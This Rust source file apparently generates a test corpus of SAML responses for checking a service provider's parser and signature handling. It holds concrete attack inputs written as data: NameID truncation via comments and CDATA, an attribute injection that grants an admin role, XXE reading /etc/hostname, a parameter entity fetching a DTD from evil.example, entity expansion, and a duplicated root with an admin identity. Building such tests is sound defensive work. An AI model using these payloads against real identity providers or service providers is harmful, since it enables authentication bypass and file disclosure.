//! Values that are read in part, and markup that parsers disagree on.

use entrada::practice::Sign;

use super::attack;
use super::harmless;
use crate::base::*;
use crate::book::Book;
use crate::keys::Keys;
use crate::manifest::Who;
use crate::seal::Seal;

pub(super) fn write(book: &mut Book, keys: &Keys) {
    values(book, keys);
    markup(book, keys);
}

fn values(book: &mut Book, keys: &Keys) {
    let seal = Seal::new(&keys.idp);
    // The attacker's own account at the identity provider has a name that begins with the victim's.
    let long_name = "admin@contoso.com.evil.example";
    let named = |name: &str| {
        seal.sign(
            &edit(
                &unsigned(),
                &format!(">{VICTIM}</NameID>"),
                &format!(">{name}</NameID>"),
            ),
            ASSERTION,
        )
    };
    let own = named(long_name);
    let cut = edit(
        &own,
        "admin@contoso.com.evil",
        "admin@contoso.com<!-- -->.evil",
    );
    book.add(
        harmless(
            &["A04"],
            "a04-comment-in-name",
            "a comment in the name cuts nothing off",
            Who {
                name_id: long_name.to_owned(),
                ..adele()
            },
        ),
        &cut,
    );
    let mut claims = claims();
    claims[9].1 = vec![long_name.to_owned()];
    let in_claim = with_claims(&claims)
        .signed(Sign::Nothing, &keys.idp.signer())
        .expect("a response can be written");
    book.add(
        harmless(
            &["A04"],
            "a04-comment-in-attribute",
            "a comment in a claim cuts nothing off",
            Who {
                attributes: claims,
                ..adele()
            },
        ),
        edit(
            &seal.sign(&in_claim, ASSERTION),
            "admin@contoso.com.evil",
            "admin@contoso.com<!---->.evil",
        ),
    );
    book.add(
        harmless(
            &["A04"],
            "a04-cdata-in-name",
            "a CDATA section in the name cuts nothing off",
            Who {
                name_id: long_name.to_owned(),
                ..adele()
            },
        ),
        edit(
            &own,
            "admin@contoso.com.evil",
            "admin@contoso.com<![CDATA[.evil]]>",
        ),
    );
    book.add(
        attack(
            &["A04"],
            "a04-element-in-name",
            "an element in the name, signed",
            "assertion-malformed",
            &["assertion"],
        ),
        named("admin@contoso.com<b xmlns=\"urn:b\"/>.evil.example"),
    );
    for (file, markup) in [
        ("a05-instruction-in-name", "<?x?>"),
        ("a05-instruction-in-lines", "<?x\n?>"),
    ] {
        book.add(
            attack(
                &["A05"],
                file,
                "a processing instruction in the name",
                "xml-processing-instruction",
                &["xml"],
            ),
            edit(
                &own,
                "admin@contoso.com.evil",
                &format!("admin@contoso.com{markup}.evil"),
            ),
        );
    }
    let injected =
        "Adele</AttributeValue></Attribute><Attribute Name=\"role\"><AttributeValue>admin";
    let mut hostile = crate::base::claims();
    hostile[2].1 = vec![injected.to_owned()];
    let written = with_claims(&hostile)
        .signed(Sign::Assertion, &keys.idp.signer())
        .expect("a response can be signed");
    book.add(
        harmless(
            &["A45"],
            "a45-markup-in-claim",
            "markup in a claim stays text",
            Who {
                attributes: hostile,
                ..adele()
            },
        ),
        written,
    );
}

fn markup(book: &mut Book, keys: &Keys) {
    let signed = Seal::new(&keys.idp).sign(&unsigned(), ASSERTION);
    let doctype = |subset: &str| format!("<!DOCTYPE r [{subset}]>{signed}");
    for (file, shows, content) in [
        (
            "a25-external-entity",
            "an entity that reads a file",
            doctype("<!ENTITY x SYSTEM \"file:///etc/hostname\">").replacen(
                "Adele Vance",
                "&x;",
                1,
            ),
        ),
        (
            "a25-entity-in-id",
            "an entity in the reference",
            doctype(&format!("<!ENTITY x \"{ASSERTION}\">")).replacen(
                &format!("#{ASSERTION}"),
                "#&x;",
                1,
            ),
        ),
        (
            "a25-id-attribute-type",
            "a declaration that makes another attribute the identifier",
            doctype("<!ATTLIST Assertion Version ID #IMPLIED>"),
        ),
        (
            "a25-parameter-entity",
            "a parameter entity",
            doctype("<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;"),
        ),
        (
            "a26-entities-within-entities",
            "entities that grow a thousandfold",
            doctype("<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">")
                .replacen("Adele Vance", "&b;", 1),
        ),
    ] {
        book.add(
            attack(
                &[&file[..3].to_uppercase()],
                file,
                shows,
                "xml-dtd",
                &["xml"],
            ),
            content,
        );
    }
    let extensions = |content: &str| {
        edit(
            &signed,
            "<samlp:Status>",
            &format!("<samlp:Extensions>{content}</samlp:Extensions><samlp:Status>"),
        )
    };
    for (rows, file, shows, code, content) in [
        (
            "A07",
            "a07-two-colons",
            "a name that other parsers rewrite",
            "xml-name",
            extensions("<x::y xmlns:x=\"urn:x\"/>"),
        ),
        (
            "A07",
            "a07-colon-first",
            "an attribute without a prefix before its colon",
            "xml-name",
            extensions("<x xmlns=\"urn:x\" :y=\"z\"/>"),
        ),
        (
            "A08",
            "a08-relative-namespace",
            "a namespace that has no canonical form",
            "xml-relative-namespace",
            edit(&signed, "<Subject>", "<Subject xmlns:x=\"./x\">"),
        ),
        (
            "A06",
            "a06-unclosed-comment",
            "a comment that one parser ends and another does not",
            "xml-not-well-formed",
            edit(&signed, "<Subject>", "<!-- -- ><Subject>"),
        ),
        (
            "A06",
            "a06-mismatched-tags",
            "an end tag that differs by letter case",
            "xml-not-well-formed",
            edit(&signed, "</Subject>", "</subject>"),
        ),
        (
            "A06",
            "a06-notation-in-text",
            "a section end in text",
            "xml-not-well-formed",
            signed.replacen("Adele Vance", "Adele]]>Vance", 1),
        ),
        (
            "A26",
            "a26-deep",
            "40 elements within each other",
            "xml-too-deep",
            extensions(&format!(
                "{}{}",
                "<x xmlns=\"urn:x\">".repeat(40),
                "</x>".repeat(40)
            )),
        ),
        (
            "A47",
            "a47-two-roots",
            "a second response after the first",
            "xml-outside-root",
            format!(
                "{signed}{}",
                signed.replace(VICTIM, ADMIN).replace("ID=\"_", "ID=\"_x")
            ),
        ),
        (
            "A47",
            "a47-text-before-root",
            "text before the root",
            "xml-outside-root",
            format!("x{signed}"),
        ),
        (
            "A47",
            "a47-comment-before-root",
            "a comment before the root",
            "xml-outside-root",
            format!("<!-- x -->{signed}"),
        ),
        (
            "A47",
            "a47-cdata-after-root",
            "a CDATA section after the root",
            "xml-outside-root",
            format!("{signed}<![CDATA[ ]]>"),
        ),
        (
            "A47",
            "a47-zero-after-root",
            "a zero octet after the root",
            "xml-character",
            format!("{signed}\0"),
        ),
    ] {
        book.add(attack(&[rows], file, shows, code, &["xml"]), content);
    }
}
